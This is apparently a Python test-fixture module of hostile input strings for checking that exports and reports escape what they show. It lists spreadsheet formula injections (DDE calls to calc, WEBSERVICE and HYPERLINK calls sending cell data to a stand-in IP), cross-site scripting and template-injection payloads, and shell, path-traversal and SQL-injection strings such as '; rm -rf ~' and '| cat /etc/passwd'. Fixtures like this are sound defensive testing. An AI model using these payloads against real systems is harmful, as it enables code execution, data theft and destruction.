"""A thousand terms that want to be more than text: what an export or the report must show and never run.

`FORMULAS` are what a spreadsheet would compute, `MARKUP` what a browser would run, `BREAKERS` what ends a
cell, a line, an attribute or a string. `TERMS` has them all, alone and wrapped in what people write.
"""

from __future__ import annotations

from itertools import product

SIGNS = "=+-@＝＋－＠"
LEADS = ["", "\t", "\r", "\n", " ", "\u3000", "\ufeff", "\u200b", "'", '"', "''", "\0"]
_CALLS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"断路器")',
    'WEBSERVICE("http://192.0.2.1/"&A1)',
    'IMPORTXML(CONCAT("http://192.0.2.1/?",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1,1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "断路器",
]
FORMULAS = [f"{lead}{sign}{call}" for lead, sign, call in product(LEADS, SIGNS, _CALLS)]

_SCRIPT = "alert(1)"
MARKUP = [
    f"<script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>",
    "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<svg/onload={_SCRIPT}>",
    f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>",
    f'"><img src=x onerror={_SCRIPT}>',
    f"'><img src=x onerror={_SCRIPT}>",
    f'" onmouseover="{_SCRIPT}',
    f"' onfocus='{_SCRIPT}' autofocus='",
    f"` onmouseover=`{_SCRIPT}",
    f"<a href=javascript:{_SCRIPT}>x</a>",
    f"javascript:{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    f"<iframe srcdoc='<script>{_SCRIPT}</script>'>",
    "<style>@import 'http://192.0.2.1/x.css';</style>",
    f"</style><script>{_SCRIPT}</script>",
    f"</title><script>{_SCRIPT}</script>",
    f"</textarea><script>{_SCRIPT}</script>",
    f"<!--<script>{_SCRIPT}//-->",
    f"--><script>{_SCRIPT}</script>",
    f"]]><script>{_SCRIPT}</script>",
    "<meta http-equiv=refresh content=0;url=http://192.0.2.1>",
    "<base href=http://192.0.2.1/>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<form action=http://192.0.2.1><input type=submit>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "＜script＞alert(1)＜/script＞",
]
BREAKERS = [
    'quo"te',
    '""',
    '"',
    "'",
    "a,b",
    "a;=1+1",
    'a;"=1+1"',
    'a";=1+1;"',
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a\n@SUM(1)",
    "a\t＝1+1",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "a\x0bb",
    "\\",
    "\\n",
    "\\\\'",
    "`",
    "a\0b",
    "\x1b[31m红\x1b[0m",
    "\x1b]0;x\x07",
    "\x1b]8;;http://192.0.2.1\x07x\x1b]8;;\x07",
    "\u202e断路器\u202c",
    "\u2066a\u2069",
    "../../etc/passwd",
    "..\\..\\x",
    "%s%n%d",
    "{0.__class__}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf ~",
    "| cat /etc/passwd",
    "' OR 1=1 --",
    "é",
    "e\u0301",
    "\U0001f468\u200d\U0001f469",
    "\U00020000字",
    "长" * 5000,
    " ",
    "",
    "NaN",
    "null",
    "1e999",
    "-0.5",
    "+8613800000000",
    "001",
    "2026-11-24",
    "1/2",
    "0x10",
    "TRUE",
]
_WRAPPED = [("断路器", ""), ("", "断路器"), ("检查", "装置")]
TERMS = list(
    dict.fromkeys(
        [
            *FORMULAS,
            *MARKUP,
            *BREAKERS,
            *(before + term + after for (before, after), term in product(_WRAPPED, [*MARKUP, *BREAKERS])),
        ]
    )
)
